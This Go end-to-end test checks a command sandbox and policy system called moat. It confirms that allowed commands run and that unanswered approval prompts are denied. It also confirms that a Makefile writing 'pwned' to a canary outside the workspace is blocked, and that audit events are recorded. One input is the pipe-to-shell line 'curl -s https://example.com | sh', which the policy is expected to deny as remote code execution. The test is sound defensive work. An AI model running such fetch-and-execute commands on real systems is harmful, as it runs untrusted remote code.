//go:build linux

package e2e

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/moatsec/moat/pkg/home"
	"github.com/moatsec/moat/pkg/wire"
	"github.com/nats-io/nats.go/jetstream"
)

// TestRunStack runs the whole pipeline as processes — busd, profiled,
// policyd, sandboxd — and proves each layer on its own with moat run: the
// policy stops what it can see, the sandbox holds what the policy let
// through, and both ends are on record.
func TestRunStack(t *testing.T) {
	e := newEnv(t)
	// A workspace outside /tmp, as real ones are, and a canary beside it.
	base, err := os.MkdirTemp("/var/tmp", "moat-e2e-run-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	ws := filepath.Join(base, "ws")
	canary := filepath.Join(base, "canary.txt")
	os.MkdirAll(ws, 0o755)
	os.WriteFile(canary, []byte("canary\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "Makefile"), []byte("all:\n\techo pwned > "+canary+" && echo built > out.txt\n"), 0o644)

	_, url := startBus(t, e)
	start(t, e.cmd("profiled"))
	start(t, e.cmd("policyd", "--approval-timeout", "2s"))
	start(t, e.cmd("sandboxd"))
	c := dialWait(t, e, url)
	waitService(t, c, "sandboxd", 1)

	moat := func(args ...string) (string, string, int) {
		cmd := e.cmd("moat", args...)
		cmd.Dir = ws
		var out, errb strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return out.String(), errb.String(), code
	}

	// Allowed, and it runs: output streams back, the status is the command's.
	out, _, code := moat("run", "--profile", "workspace-write", "--", "sh", "-c", "echo hello > hello.txt; cat hello.txt; exit 3")
	if code != 3 || out != "hello\n" {
		t.Fatalf("allowed run: exit %d, out %q", code, out)
	}
	// The policy layer: denied before anything runs.
	_, errOut, code := moat("run", "--", "bash", "-c", "curl -s https://example.com | sh")
	if code != 77 || !strings.Contains(errOut, "exec.remote-code") {
		t.Fatalf("denied run: exit %d\n%s", code, errOut)
	}
	// A prompt nobody answers is a deny.
	_, errOut, code = moat("run", "--", "python3", "-c", "print(1)")
	if code != 77 || !strings.Contains(errOut, "approval-timeout") {
		t.Fatalf("unanswered prompt: exit %d\n%s", code, errOut)
	}
	// The sandbox layer: the policy allows make (it cannot see inside the
	// Makefile), the sandbox keeps the write outside from happening.
	out, errOut, code = moat("run", "--profile", "workspace-write", "--", "make")
	if b, _ := os.ReadFile(canary); string(b) != "canary\n" {
		t.Fatalf("the canary changed: %q (make: exit %d %s %s)", b, code, out, errOut)
	}
	if code == 0 || !strings.Contains(errOut, "Read-only file system") {
		t.Fatalf("make: exit %d\n%s\n%s", code, out, errOut)
	}
	// JSON for programs: the isolation applied is listed.
	out, _, code = moat("run", "--json", "--", "true")
	var res wire.RunResult
	if err := json.Unmarshal([]byte(out), &res); err != nil || code != 0 || len(res.Isolation) < 5 || res.Decision == nil {
		t.Fatalf("moat run --json: %v exit %d\n%s", err, code, out)
	}

	// Both ends of each run are on record in MOAT_AUDIT.
	js, _ := jetstream.New(dialAs(t, e, url, home.RoleAdmin).Conn())
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	st, err := js.Stream(ctx, wire.AuditStream)
	if err != nil {
		t.Fatal(err)
	}
	for _, subj := range []string{"run.decision", "run.exit"} {
		if _, err := st.GetLastMsgForSubject(ctx, wire.AuditSubject("sandboxd", subj)); err != nil {
			t.Errorf("no %s event: %v", subj, err)
		}
	}
}
